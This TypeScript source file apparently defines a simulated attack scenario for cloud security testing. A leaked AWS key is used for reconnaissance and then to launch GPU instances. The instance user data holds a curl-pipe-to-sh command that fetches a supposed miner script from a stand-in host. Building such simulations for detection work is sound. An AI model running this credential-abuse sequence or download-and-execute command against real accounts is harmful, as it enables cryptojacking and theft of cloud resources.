import { DescribeInstancesCommand, DescribeRegionsCommand, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { AWAY, STRANGE } from './places.ts';
import type { PlayableScenario } from './scenario.ts';
import { visit } from './visitor.ts';

/** Downloads and starts a miner, as such user data does. The address belongs to nobody. */
const USER_DATA = `#!/bin/sh\ncurl -fsS http://${AWAY.hosting}/x.sh | sh\n`;

export const leakedKeyMinesCoins: PlayableScenario = {
  id: 'leaked-key-mines-coins',
  title: 'A leaked key mines coins',
  story: "Dave's access key got out: somebody looks around with it, hits a quota, and launches graphics machines.",

  play: (aws, options) =>
    visit(
      aws,
      { credentials: aws.demo.credentials.dave, address: AWAY.hosting, userAgent: STRANGE.kali },
      options,
      async ({ ec2, sts }, step) => {
        const launch = (type: 'p5.48xlarge' | 'p3.8xlarge', least: number, most: number) => () =>
          ec2.send(
            new RunInstancesCommand({
              ImageId: aws.demo.imageId,
              InstanceType: type,
              MinCount: least,
              MaxCount: most,
              UserData: Buffer.from(USER_DATA).toString('base64'),
            }),
          );
        await step('GetCallerIdentity', () => sts.send(new GetCallerIdentityCommand({})));
        await step('DescribeRegions', () => ec2.send(new DescribeRegionsCommand({})));
        await step('DescribeInstances', () => ec2.send(new DescribeInstancesCommand({})));
        // Beyond the quota whatever already runs.
        await step('RunInstances', launch('p5.48xlarge', 2, 2), 'VcpuLimitExceeded');
        // As many as the quota leaves: none at all only where an earlier playing took them.
        await step('RunInstances', launch('p3.8xlarge', 1, 6), 'VcpuLimitExceeded');
      },
    ),
};
